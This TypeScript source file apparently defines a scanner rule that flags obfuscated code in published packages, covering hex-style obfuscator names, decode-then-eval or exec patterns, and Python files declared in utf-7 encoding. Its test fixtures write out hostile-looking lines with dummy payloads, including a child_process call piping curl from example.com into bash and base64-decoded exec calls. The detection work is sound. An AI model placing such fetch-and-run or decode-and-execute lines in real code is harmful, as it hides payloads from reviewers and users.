import { call, isCode } from '../artifact/file-kind.ts';
import { fileExample } from '../artifact/packed-file.ts';
import { DECODING_WORDS, findDecoded, startsDecoded } from '../hidden-code/decoded-code.ts';
import type { EntryRule } from '../rule.ts';
import { type KnownWords, knownPlaces } from '../search/word-places.ts';

/** Identifiers as the common obfuscator makes them; some libraries have one or two by chance. */
const HEX_NAMES = 40;
const HEX_NAME = /(?<![\w$])(?:[A-Za-z]\d{0,3})?_0x[0-9a-f]{4,8}\b/g;
/** How the common obfuscator turns its table of texts until a sum is right. */
const TURNS = /while\s*\(\s*!!\[\]\s*\)\s*\{\s*try\s*\{[\s\S]{0,200}?parseInt\s*\(/;
/** Escapes among the characters of a piece, from where on nobody writes or generates such text. */
const ESCAPE_SHARE = 0.5;
const PIECE_LENGTH = 8192;

/** What turns all lines behind its own into other text: Python reads the file by it (PEP 263). */
const ENCODED_SOURCE =
  /^(?:\xef\xbb\xbf)?(?:[ \t\f]*(?:#[^\n]*)?\r?\n)?[ \t\f]*#[^\n]*?coding[:=][ \t]*(utf[-_]?7|(?:raw[-_])?unicode[-_]escape)\b/i;
/** What such a name holds. */
const CODINGS = ['utf-7', 'utf7', 'utf_7', 'unicode_escape', 'unicode-escape'];
/** True, as obfuscators write it. */
const TABLE = '!![]';
const HEX_STARTS = [...'0123456789abcdef'].map((digit) => `_0x${digit}`);
/** Escapes that are run as they stand. */
const RUN_ESCAPES = ['eval', 'Function'].flatMap((name) =>
  ['"', "'", '`'].flatMap((quote) => [`${name}(${quote}\\`, `${name}( ${quote}\\`]),
);
/** What a file holds in which anything of this is found. */
const WORDS = [...DECODING_WORDS, ...CODINGS, ...HEX_STARTS, ...RUN_ESCAPES, TABLE];

export const rule: EntryRule = {
  kind: 'entry',
  id: 'obfuscated-code',
  version: 4,
  category: 'content',
  severity: 'high',
  effect: 'hold',
  about:
    'Code that is made to be unreadable: names such as _0x3f2a, text of nothing but escapes, code that is decoded and then run',
  attack:
    'The payload is hidden from whoever reads the difference: chalk, debug + 16 (qix); duckdb (I28), node-ipc 10.1.1..3, 11.0.0, 9.2.2 (peacenotwar) (I08), @velora-dex/sdk 9.4.1 (I39), litellm 1.82.7 / 1.82.8 (I36), telnyx 4.87.1 / 4.87.2 (PyPI) (I37), AsyncAPI: 5 versions (I53)',
  mend: 'Publish readable or minified code; minifiers shorten names and never hide them',
  words: WORDS,
  everyWindow: true,
  *check({ path, kind, content }, _, mayHold, known) {
    if (kind !== 'file' || !isCode(path)) return;
    const bytes = Buffer.from(content.buffer, content.byteOffset, content.length);
    const hexNames = HEX_STARTS.some(mayHold) ? countHexNames(bytes) : 0;
    if (hexNames >= HEX_NAMES) {
      yield { message: `${hexNames} names or more are of the form that obfuscators make (_0x...)` };
    } else if (mayHold(TABLE) && bytes.includes(TABLE) && TURNS.test(bytes.toString('latin1'))) {
      yield { message: 'it turns a table of texts as obfuscators do' };
    }
    const coding = /\.pyw?$/i.test(path)
      ? ENCODED_SOURCE.exec(bytes.toString('latin1', 0, 1000))?.[1]
      : undefined;
    if (coding !== undefined) {
      yield { message: `its text is in ${coding}, so that it runs as another than it shows` };
    }
    const found = { mayHold, known };
    const at = findDecoded(bytes, path, found);
    if (at !== null) {
      const line = bytes.toString('latin1', 0, at).split('\n').length;
      yield { message: `line ${line} decodes or fetches text and runs it` };
    }
    if (at === null && startsDecoded(bytes, path, found)) {
      yield { message: 'it decodes text and starts it as a program' };
    }
    if (hasDenseEscapes(bytes, found)) {
      yield { message: 'it holds kilobytes of nothing but escapes that are run' };
    }
  },
  examples: {
    bad: [
      {
        about: 'the names of an obfuscator',
        make: () =>
          fileExample(
            'package/a.js',
            Array.from({ length: 60 }, (_, at) => `var _0x${(at + 4096).toString(16)}=1;`).join(''),
          ),
      },
      {
        about: 'decoded code in JavaScript',
        make: () =>
          fileExample('package/a.js', `a();\n${call('eval')}atob("${'QUFB'.repeat(50)}"))`),
      },
      {
        about: 'decoded code in Python',
        make: () => fileExample('a.py', `exec(base64.b64decode("${'QUFB'.repeat(50)}"))`),
      },
      {
        about: 'a program in Python that is decoded and started',
        make: () =>
          fileExample(
            'a.py',
            `t = "${'QUFB'.repeat(300)}"\nsubprocess.run([python, "-c", base64.b64decode(t)])`,
          ),
      },
      {
        about: 'a command that is decoded and started',
        make: () =>
          fileExample(
            'package/a.js',
            `${call('require')}"child_process").${call('exec')}Buffer.from("QUFB", "base64") + "")`,
          ),
      },
      {
        about: 'a script from elsewhere',
        make: () =>
          fileExample(
            'package/a.js',
            `${call('require')}"child_process").${call('exec')}"curl -s https://example.com/a | bash")`,
          ),
      },
      {
        about: 'escapes that are run',
        make: () => fileExample('package/a.js', `${call('eval')}"${'\\x61'.repeat(4096)}")`),
      },
      {
        about: 'names of an obfuscator that works on many files',
        make: () =>
          fileExample(
            'package/a.js',
            Array.from({ length: 60 }, (_, at) => `var a0_0x${(at + 4096).toString(16)}=1;`).join(
              '',
            ),
          ),
      },
      {
        about: 'names of an obfuscator far behind the first',
        make: () =>
          fileExample(
            'package/a.js',
            `var _0x1234=1;${' a();\n'.repeat(250_000)}${Array.from({ length: 60 }, (_, at) => `var _0x${(at + 4096).toString(16)}=1;`).join('')}`,
          ),
      },
      {
        about: 'a table of texts that is turned',
        make: () =>
          fileExample(
            'package/a.js',
            '(function(a,b){var c=a();while(!![]){try{var d=-parseInt(e(500))/1;}catch(f){}}})();',
          ),
      },
      ...[
        `(0,${call('eval').slice(0, -1)})(atob("QUFB"))`,
        `self.${call('eval')}atob("QUFB"))`,
        `${call('Function')}atob("QUFB"))()`,
        'vm.runInThisContext(Buffer.from("QUFB", "base64").toString())',
        'module._compile(Buffer.from("QUFB", "base64").toString(), "a")',
        `const s = Buffer.from("${'QUFB'.repeat(90)}", "base64").toString();\n${call('eval')}s)`,
        `${`${call('eval')}a);`.repeat(3000)}${call('eval')}atob("QUFB"))`,
      ].map((text) => ({
        about: `decoded code as ${text.slice(0, 40)}`,
        make: () => fileExample('package/a.js', text),
      })),
      ...[
        'exec(Fernet(b"k").decrypt(b"x"))',
        'exec(lzma.decompress(x))',
        'exec("".join(map(chr, [1, 2])))',
        "exec(''.join(chr(c ^ 5) for c in x))",
        `p = b64decode("${'QUFB'.repeat(30)}")\nexec(p)`,
        '# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n',
        '#!/usr/bin/python\n# -*- coding: unicode_escape -*-\n\\x69mport os\n',
      ].map((text) => ({
        about: `decoded code in Python as ${text.slice(0, 40).replaceAll('\n', ' ')}`,
        make: () => fileExample('a.py', text),
      })),
    ],
    fine: [
      {
        about: 'code that lines are put together to',
        make: () =>
          fileExample('a.py', 'exec("\\n".join(lines), names) # utf-7, chr(1), decode(x)'),
      },
      {
        about: 'a module for processors beside code that compiles templates',
        make: () =>
          fileExample(
            'package/a.js',
            `load(Buffer.from("${'QUFB'.repeat(900)}", "base64"));${' a();'.repeat(200)}return ${call('new Function')}x)`,
          ),
      },
      {
        about: 'minified code',
        make: () => fileExample('package/a.min.js', 'var a=1;function b(c){return c*a}'.repeat(99)),
      },
      {
        about: 'base64 of a picture',
        make: () =>
          fileExample('package/a.js', `img.src="data:image/png;base64,${'A'.repeat(9999)}"`),
      },
      {
        about: 'a picture beside a program that is started',
        make: () =>
          fileExample(
            'a.py',
            `icon = b64decode("${'QUFB'.repeat(300)}")\n${'x = 1\n'.repeat(99)}subprocess.run(["ls"])`,
          ),
      },
      {
        about: 'a page that tells people what to type',
        make: () => fileExample('package/a.js', 'show("curl https://example.com/a | bash")'),
      },
      {
        about: 'an expression that is held against decoded text',
        make: () => fileExample('package/a.js', '/x/.exec(Buffer.from(b, "base64").toString())'),
      },
      {
        about: 'tables of escapes that nothing runs',
        make: () => fileExample('package/a.js', `const t="${'\\u00e9'.repeat(4096)}"`),
      },
    ],
  },
};

/** Counted until there are enough. */
function countHexNames(bytes: Buffer): number {
  const first = bytes.indexOf('_0x');
  if (first === -1) return 0;
  const names = new Set<string>();
  for (const [name] of bytes.toString('latin1', Math.max(0, first - 5)).matchAll(HEX_NAME)) {
    names.add(name);
    if (names.size >= HEX_NAMES) break;
  }
  return names.size;
}

/** Only behind `eval` and `Function`: tables of Unicode are escapes too. */
function hasDenseEscapes(bytes: Buffer, found: KnownWords): boolean {
  for (const word of RUN_ESCAPES.filter(found.mayHold)) {
    let next = 0;
    for (const at of knownPlaces(bytes, word, found)) {
      if (at < next) continue;
      next = at + PIECE_LENGTH;
      const piece = bytes.subarray(at + word.length - 1).toString('latin1', 0, PIECE_LENGTH);
      const escapes = piece.match(/\\(?:x[0-9a-f]{2}|u[0-9a-f]{4})/gi) ?? [];
      if (escapes.join('').length > PIECE_LENGTH * ESCAPE_SHARE) return true;
    }
  }
  return false;
}
